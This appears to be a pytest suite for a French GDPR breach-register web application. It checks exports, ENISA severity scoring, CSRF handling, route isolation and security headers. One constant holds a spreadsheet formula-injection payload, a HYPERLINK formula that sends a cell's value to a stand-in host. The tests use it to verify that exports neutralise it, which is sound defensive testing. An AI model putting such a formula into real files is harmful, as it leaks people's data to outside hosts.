"""The DPO's pages added to the web application: breach register and its downloads, ENISA severity, the
dashboard (always up to date, with each convention's stage), and the security headers of every answer."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from test_web import client, login
from webhelpers import BETHUNE, FAST, Clock, People, csrf_of, make_people

from dpa_kit import breach as breaches
from dpa_kit.ledger import Ledger
from dpa_kit.tables import read_rows
from dpa_kit.web import WebConfig, create_app

T23 = datetime(2026, 3, 28, 22, 0, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://example.test/?x="&A1;"ouvrir")'


@pytest.fixture
def clock() -> Clock:
    return Clock(T23)


@pytest.fixture
def site(registers: Path, tmp_path: Path, clock: Clock) -> tuple[Any, People]:
    ledger = tmp_path / "ledger.sqlite"
    people = make_people(ledger, T23)
    app = create_app(WebConfig(registers=registers, ledger_path=ledger, now=clock, policy=FAST))
    return app, people


def _ledger(app: Any) -> Ledger:
    return app.state.web.ledger


def _received(app: Any, description: str = "liste des bénéficiaires envoyée au mauvais destinataire") -> str:
    """A breach received by the Département (the DPO's side), recorded through the library."""
    received = breaches.receive(
        _ledger(app),
        convention_id=BETHUNE,
        structure="CCAS de Béthune",
        delay_hours=24,
        aware_at=T23 - timedelta(hours=5),
        received_at=T23,
        details={"natures": ["confidentiality"], "description": description, "people": {"min": 40, "max": 40}},
        structure_reference="V-2026-266200119-0001",
    )
    return received.id


def _declared(app: Any) -> str:
    """A breach on the structure's side (its own record of a declaration)."""
    declared = breaches.declare(
        _ledger(app),
        convention_id=BETHUNE,
        structure="CCAS de Béthune",
        delay_hours=24,
        aware_at=T23 - timedelta(hours=5),
        details={"natures": ["confidentiality"], "description": "déclarée"},
    )
    return declared.id


def _dpo(app: Any, people: People) -> TestClient:
    return login(app, people.dpo, people.dpo_once, secret=[])


def _trimmed(row: list[Any]) -> list[str]:
    """A row's cells as text, without the empty cells at its end (a spreadsheet does not keep them)."""
    cells = ["" if v is None else str(v) for v in row]
    while cells and not cells[-1]:
        cells.pop()
    return cells


def _actions(app: Any, action: str) -> list[Any]:
    return [e for e in _ledger(app).events(kind_prefix="account.action") if e.payload.get("action") == action]


SEVERE = {
    "dpc": "4",
    "dpc_adjust": "",
    "ei": "significant",
    "confidentiality": "unknown",
    "integrity": "none",
    "availability": "none",
    "malicious": "non",
}


# --- security headers on every answer, the 500 page included ----------------------------------------


def _assert_secure(response: Any) -> None:
    csp = response.headers["content-security-policy"]
    assert "script-src 'self';" in csp and "'unsafe-inline'" not in csp and "frame-ancestors 'none'" in csp
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "same-origin"
    assert response.headers["cache-control"] == "no-store"


def test_the_500_page_is_french_bare_and_carries_the_security_headers(registers: Path, tmp_path: Path) -> None:
    ledger = tmp_path / "ledger.sqlite"
    people = make_people(ledger, T23)
    app = create_app(WebConfig(registers=registers, ledger_path=ledger, now=Clock(T23), policy=FAST))

    @app.get("/essai-panne")
    def broken() -> None:  # a test-only route: any unexpected error of a page
        raise RuntimeError("secret interne /srv/registres secretariat@ccas-bethune.fr Béthune")

    for c in (client(app), login(app, people.bethune, people.bethune_once)):
        response = c.get("/essai-panne")
        assert response.status_code == 500
        assert "<h1>Erreur interne</h1>" in response.text and 'lang="fr"' in response.text
        for secret in ("Traceback", "RuntimeError", "secret interne", "/srv/", "secretariat@", "Béthune"):
            assert secret not in response.text, secret
        _assert_secure(response)


def test_404_and_redirections_carry_the_security_headers(site: tuple[Any, People]) -> None:
    app, people = site
    anonymous = client(app)
    for path, status in (("/rien-ici", 404), ("/", 303), ("/dpo/registre-violations", 303)):
        response = anonymous.get(path)
        assert response.status_code == status, path
        _assert_secure(response)
    structure = login(app, people.bethune, people.bethune_once)
    response = structure.get("/dpo/registre-violations")
    assert response.status_code == 404
    _assert_secure(response)


# --- the breach register ----------------------------------------------------------------------------


def test_register_page_lists_every_breach_and_is_linked(site: tuple[Any, People]) -> None:
    app, people = site
    received = _received(app)
    declared = _declared(app)
    c = _dpo(app, people)
    assert 'href="/dpo/registre-violations"' in c.get("/dpo").text
    assert 'href="/dpo/registre-violations"' in c.get(f"/dpo/violations/{received}").text
    page = c.get("/dpo/registre-violations")
    assert page.status_code == 200
    assert "<h1>Registre des violations (art. 33(5) RGPD)</h1>" in page.text
    assert f'<a href="/dpo/violations/{received}">{received}</a>' in page.text
    assert f'<a href="/dpo/violations/{declared}">{declared}</a>' in page.text
    assert "<td>40</td>" in page.text  # the people concerned: a count, never a Python repr
    assert "{&#39;min&#39;" not in page.text
    for fmt in ("csv", "xlsx", "ods", "html"):
        assert f'href="/dpo/registre-violations/registre.{fmt}"' in page.text
    assert not re.search(r"<script(?![^>]*\ssrc=\"/static/)", page.text) and " style=" not in page.text


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods", "html"])
def test_register_download_same_rows_as_the_command_line_cells_as_data(
    site: tuple[Any, People], tmp_path: Path, fmt: str
) -> None:
    from dpa_kit.breach_register import register_rows
    from dpa_kit.tables import sheet_value, text_rows

    app, people = site
    received = _received(app, description=HOSTILE)
    c = _dpo(app, people)
    response = c.get(f"/dpo/registre-violations/registre.{fmt}")
    assert response.status_code == 200
    # The HTML register opens in the browser (to read or print); the spreadsheets are downloaded.
    assert response.headers["content-disposition"] == (
        f"{'inline' if fmt == 'html' else 'attachment'}; filename*=UTF-8''registre-violations-2026-03-28.{fmt}"
    )
    _assert_secure(response)
    headers, rows = register_rows(list(breaches.all_breaches(_ledger(app)).values()))
    if fmt == "html":
        assert response.headers["content-type"].startswith("text/html")
        assert received in response.text and "=HYPERLINK(&quot;http://example.test" in response.text
        # Its layout comes from the application's own style sheet: the page's CSP forbids inline styles.
        assert "<style" not in response.text and '<link rel="stylesheet" href="/static/register.css">' in response.text
    else:
        path = tmp_path / f"registre.{fmt}"
        path.write_bytes(response.content)
        read = read_rows(path)
        assert read[0] == headers
        # CSV holds texts (instants in Paris time, French numbers); a spreadsheet its typed cells, in Paris time
        expected = text_rows(rows) if fmt == "csv" else [[sheet_value(v) for v in row] for row in rows]
        assert [_trimmed(row) for row in read[1:]] == [_trimmed(row) for row in expected]
        assert read[1][headers.index("Description")] == HOSTILE  # read back exactly as written
    if fmt == "csv":
        assert ';"\'=HYPERLINK(""http' in response.content.decode("utf-8-sig")  # shown as text, never run
    if fmt == "xlsx":
        import openpyxl

        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        assert sheet is not None
        cell = sheet.cell(row=2, column=headers.index("Description") + 1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE, "s", True)
    if fmt == "ods":
        content = zipfile.ZipFile(io.BytesIO(response.content)).read("content.xml").decode("utf-8")
        assert "table:formula" not in content
    exported = _actions(app, "breach.register.exported")
    assert len(exported) == 1
    assert exported[0].subject.startswith("user-") and exported[0].payload["rows"] == 1


def test_register_download_of_an_unknown_format_is_404(site: tuple[Any, People]) -> None:
    app, people = site
    c = _dpo(app, people)
    assert c.get("/dpo/registre-violations/registre.exe").status_code == 404
    assert _actions(app, "breach.register.exported") == []


# --- the ENISA severity --------------------------------------------------------------------------------


def test_severity_form_same_choices_and_score_as_the_command_line(site: tuple[Any, People]) -> None:
    app, people = site
    received = _received(app)
    c = _dpo(app, people)
    page = c.get(f"/dpo/violations/{received}")
    assert '<h2 id="gravite">Gravité (méthode ENISA)</h2>' in page.text
    for name, text in (
        ("significant", "importante"),
        ("unknown", "destinataires inconnus"),
        ("unrecoverable", "irrécupérable"),
        ("permanent", "définitive"),
        ("4", "4 : sensible"),
    ):
        assert f'<option value="{name}">{text}</option>' in page.text
    assert '<label for="f-sev-ei">Facilité d&#39;identification des personnes</label>' in page.text

    # Each wrong field gets its French message next to it; nothing is recorded.
    response = c.post(
        f"/dpo/violations/{received}/gravite",
        data={"csrf": csrf_of(page.text), **SEVERE, "ei": "", "dpc_adjust": "beaucoup"},
    )
    assert response.status_code == 400
    assert re.search(
        r'id="e-ei"><strong>Erreur :</strong> choisissez une réponse : négligeable, limitée', response.text
    )
    assert 'id="e-dpc_adjust"><strong>Erreur :</strong> un nombre de -1 à +1' in response.text
    assert '<option value="4" selected>' in response.text  # the answers given are kept
    assert [e for e in _ledger(app).events(subject=received) if e.kind == "breach.severity"] == []

    response = c.post(f"/dpo/violations/{received}/gravite", data={"csrf": csrf_of(page.text), **SEVERE})
    # Back at the severity section of the page, not at its top.
    assert (response.status_code, response.headers["location"]) == (303, f"/dpo/violations/{received}#gravite")
    shown = c.get(f"/dpo/violations/{received}").text
    assert "<strong>Gravité : élevée</strong> (score 3,5 = 4,0 × 0,75 + 0,5)" in shown
    assert "informez-les sans délai (art. 34)" in shown
    assert "Réévaluer la gravité" in shown
    assert '<option value="significant" selected>' in shown  # re-assessed from the answers recorded

    expected = breaches.assess(4, 0.0, "significant", "unknown", "none", "none", False)
    recorded = [e for e in _ledger(app).events(subject=received) if e.kind == "breach.severity"]
    assert len(recorded) == 1
    assert recorded[0].payload == {
        "score": expected.score,
        "band": expected.band,
        "dpc": expected.dpc,
        "ei": expected.ei,
        "cb": expected.cb,
        "inputs": {
            "dpc": 4,
            "dpc_adjust": 0.0,
            "ei": "significant",
            "confidentiality": "unknown",
            "integrity": "none",
            "availability": "none",
            "malicious": False,
        },
    }
    action = _actions(app, "breach.severity")
    assert len(action) == 1 and action[0].subject.startswith("user-")
    assert action[0].payload == {"action": "breach.severity", "object": received, "band": "élevé"}
    # Shown in the register too.
    assert "<td>élevée (3,5)</td>" in c.get("/dpo/registre-violations").text


def test_severity_with_a_french_decimal_adjustment(site: tuple[Any, People]) -> None:
    app, people = site
    received = _received(app)
    c = _dpo(app, people)
    page = c.get(f"/dpo/violations/{received}")
    data = {**SEVERE, "dpc": "3", "dpc_adjust": "-0,5", "malicious": "oui"}
    assert c.post(f"/dpo/violations/{received}/gravite", data={"csrf": csrf_of(page.text), **data}).status_code == 303
    expected = breaches.assess(3, -0.5, "significant", "unknown", "none", "none", True)
    assert breaches.all_breaches(_ledger(app))[received].severity["score"] == expected.score
    shown = c.get(f"/dpo/violations/{received}").text
    assert f"Gravité : {breaches.BAND_FEMININE[expected.band]}" in shown
    assert 'value="-0,5"' in shown and 'value="oui" checked' in shown


def test_severity_of_a_structure_side_breach_is_404_for_the_dpo(site: tuple[Any, People]) -> None:
    app, people = site
    declared = _declared(app)
    c = _dpo(app, people)
    token = csrf_of(c.get("/dpo").text)
    assert c.post(f"/dpo/violations/{declared}/gravite", data={"csrf": token, **SEVERE}).status_code == 404
    assert 'action="/dpo/violations/' + declared + '/gravite"' not in c.get(f"/dpo/violations/{declared}").text


def test_severity_form_without_its_csrf_token_is_refused(site: tuple[Any, People]) -> None:
    app, people = site
    received = _received(app)
    c = _dpo(app, people)
    for token in (None, "faux"):
        data = dict(SEVERE) if token is None else {"csrf": token, **SEVERE}
        response = c.post(f"/dpo/violations/{received}/gravite", data=data)
        assert response.status_code == 403
        assert "<h1>Action refusée</h1>" in response.text
    assert [e for e in _ledger(app).events(subject=received) if e.kind == "breach.severity"] == []


# --- the dashboard ----------------------------------------------------------------------------------


def test_dashboard_shows_each_conventions_stage_and_new_breaches_at_once(
    site: tuple[Any, People], registers: Path
) -> None:
    from dpa_kit import lifecycle

    app, people = site
    c = _dpo(app, people)
    page = c.get("/dpo").text
    assert '<th scope="col">Étape</th>' in page
    assert re.search(rf'<a href="/conventions/{BETHUNE}">{BETHUNE}</a>.*?<td>brouillon</td>', page, re.S)
    lifecycle.mark_sent(_ledger(app), BETHUNE, by="user-1", now=T23)
    received = _received(app)
    page = c.get("/dpo").text  # at once: no dashboard kept for a few seconds
    assert re.search(rf'<a href="/conventions/{BETHUNE}">{BETHUNE}</a>.*?<td>envoyée pour signature</td>', page, re.S)
    assert f'href="/dpo/violations/{received}"' in page
    # A convention file edited on disk shows on the next dashboard.
    path = registers / f"{BETHUNE}.yaml"
    path.write_text(
        path.read_text(encoding="utf-8").replace("short_name: CCAS de Béthune", "short_name: CCAS de Bethune-Ville"),
        encoding="utf-8",
    )
    assert "<td>CCAS de Bethune-Ville</td>" in c.get("/dpo").text


# --- isolation: a structure's user gets 404 on every DPO page added here -------------------------------

DPO_ROUTES = [
    ("get", "/dpo/registre-violations"),
    ("get", "/dpo/registre-violations/registre.csv"),
    ("get", "/dpo/registre-violations/registre.xlsx"),
    ("get", "/dpo/registre-violations/registre.ods"),
    ("get", "/dpo/registre-violations/registre.html"),
    ("post", "/dpo/violations/{received}/gravite"),
    ("get", "/dpo/violations/{received}/cloturer"),
]
#: The patterns of the routes above (test_web checks that every route with a parameter is in a list).
DPO_PATTERNS = {
    "/dpo/registre-violations/registre.{fmt}",
    "/dpo/violations/{breach_id}/gravite",
    "/dpo/violations/{breach_id}/cloturer",
}


def test_the_dpo_list_covers_the_routes_of_the_module(site: tuple[Any, People]) -> None:
    from dpa_kit.web import dpo

    paths = {route.path for route in dpo.router.routes}
    listed = {p.replace("{received}", "{breach_id}") for _, p in DPO_ROUTES}
    assert paths - listed == {"/dpo/registre-violations/registre.{fmt}"}
    assert {p for p in paths if "{" in p} == DPO_PATTERNS


@pytest.mark.parametrize(("method", "path"), DPO_ROUTES)
def test_a_structure_user_gets_404(site: tuple[Any, People], method: str, path: str) -> None:
    app, people = site
    received = _received(app)
    url = path.format(received=received)
    intruder = login(app, people.bethune, people.bethune_once)  # even the structure the breach is about
    token = csrf_of(intruder.get("/structure").text)
    response = intruder.get(url) if method == "get" else intruder.post(url, data={"csrf": token, **SEVERE})
    assert response.status_code == 404
    assert "<h1>Page introuvable</h1>" in response.text and received not in response.text
    assert _actions(app, "breach.register.exported") == [] and _actions(app, "breach.severity") == []


def test_the_server_judges_the_conventions_at_start_not_at_the_first_dashboard(
    registers: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dpa_kit import checks

    ledger = tmp_path / "ledger.sqlite"
    people = make_people(ledger, T23)
    app = create_app(WebConfig(registers=registers, ledger_path=ledger, now=Clock(T23), policy=FAST))
    with TestClient(app, follow_redirects=False) as started:  # runs the start-up, as uvicorn does
        app.state.warm_up.join(timeout=60)
        assert not app.state.warm_up.is_alive()
        judged: list[str] = []
        real = checks.verdict
        monkeypatch.setattr(checks, "verdict", lambda subject: judged.append(subject.convention.id) or real(subject))
        assert started.get("/connexion").status_code == 200
        c = _dpo(app, people)
        assert c.get("/dpo").status_code == 200
        assert judged == []  # already judged by the start-up


@pytest.mark.parametrize(
    ("form", "data", "kept"),
    [
        ("gravite", {"dpc": "4", "dpc_adjust": "beaucoup"}, 'value="beaucoup"'),
        ("cnil", {"notified": "non", "reference": "REF-TAPEE"}, 'value="REF-TAPEE"'),
        ("personnes", {"decision": "informed", "channel": "CANAL-TAPE"}, 'value="CANAL-TAPE"'),
    ],
)
def test_each_refused_dpo_form_shows_the_same_breach_page(
    site: tuple[Any, People], form: str, data: dict[str, str], kept: str
) -> None:
    """One page for every refusal: the whole breach page again (400), the refused form's answers kept."""
    app, people = site
    received = _received(app)
    c = _dpo(app, people)
    page = c.get(f"/dpo/violations/{received}")
    response = c.post(f"/dpo/violations/{received}/{form}", data={"csrf": csrf_of(page.text), **data})
    assert response.status_code == 400
    for anchor in ("gravite", "cnil", "personnes", "cloture"):
        assert f'<h2 id="{anchor}">' in response.text
    assert kept in response.text
    assert received in response.text
    assert not _ledger(app).events(subject=received, kind_prefix="breach.cnil")
